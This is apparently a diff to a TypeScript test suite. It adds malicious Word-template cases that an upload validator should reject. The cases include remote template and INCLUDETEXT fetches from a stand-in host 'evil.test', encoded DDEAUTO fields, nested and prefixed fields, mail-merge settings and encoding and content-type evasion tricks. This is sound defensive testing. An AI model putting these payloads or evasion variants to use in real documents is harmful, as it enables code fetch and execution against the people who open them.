@@ -120,6 +120,15 @@ describe('a template of the organization’s own', () => {
   const part = (name: string, text: string) => (parts: Parts) => ({ ...parts, [name]: strToU8(text) })
   const outside =
     '<Relationships><Relationship Id="rId1" Type="http://x/attachedTemplate" Target="http://evil.test/t.dotm" TargetMode="External"/></Relationships>'
+  const hidden = outside.replace('Id="rId1"', 'Id="a>b"').replace('External', 'E&#120;ternal')
+  const wide = (name: string, text: string) => (parts: Parts) => ({
+    ...parts,
+    [name]: new Uint8Array(Buffer.from(`\ufeff${text}`, 'utf16le')),
+  })
+  const typed = (tag: string) => (parts: Parts) => ({
+    ...parts,
+    '[Content_Types].xml': strToU8(strFromU8(parts['[Content_Types].xml']!).replace('</Types>', `<${tag}/></Types>`)),
+  })
   const hostile: readonly (readonly [string, string, (parts: Parts) => Parts])[] = [
     ['macros', 'template_runs_code', part('word/vbaProject.bin', 'x')],
     ['an embedded object', 'template_runs_code', part('word/embeddings/a.xlsx', 'x')],
@@ -137,6 +146,29 @@ describe('a template of the organization’s own', () => {
       'template_reaches_out',
       into('<w:p><w:fldSimple w:instr="DDEAUTO c:\\\\x"/></w:p>'),
     ],
+    ['a template fetched by a reference half hidden', 'template_reaches_out', part('word/_rels/a.xml.rels', hidden)],
+    ['relations in another encoding', 'template_not_docx', wide('word/_rels/settings.xml.rels', outside)],
+    [
+      'a field that starts something, in other quotes',
+      'template_reaches_out',
+      into("<w:p><w:fldSimple w:instr='&#68;DEAUTO c:'/></w:p>"),
+    ],
+    [
+      'a field that fetches, under another prefix, behind another field',
+      'template_reaches_out',
+      into(`<w:p xmlns:q="urn:q">${field('q:', 'PAGE')}${field('q:', 'INCLUDETEXT "http://evil.test"')}</w:p>`),
+    ],
+    [
+      'a field put together by others',
+      'template_reaches_out',
+      into(`<w:p>${field('w:', field('w:', 'QUOTE 68'))}</w:p>`),
+    ],
+    [
+      'a database to merge from',
+      'template_reaches_out',
+      part('word/settings.xml', '<w:settings><w:mailMerge/></w:settings>'),
+    ],
+    ['a picture that is markup', 'template_not_docx', typed('Default Extension="png" ContentType="x/header+xml"')],
     [
       'entities that grow',
       'template_not_docx',
@@ -168,6 +200,12 @@ describe('a template of the organization’s own', () => {
     expect((await filled(body.id, system.number!)).status).toBe(404)
   })
 })
+
+function field(prefix: string, code: string): string {
+  const turn = (kind: string) => `<w:r><w:fldChar w:fldCharType="${kind}"/></w:r>`
+  const said = code.startsWith('<') ? code : `<w:r><${prefix}instrText>${code}</${prefix}instrText></w:r>`
+  return `${turn('begin')}${said}${turn('end')}`
+}
 
 function into(markup: string): (parts: Parts) => Parts {
   return (parts) => {
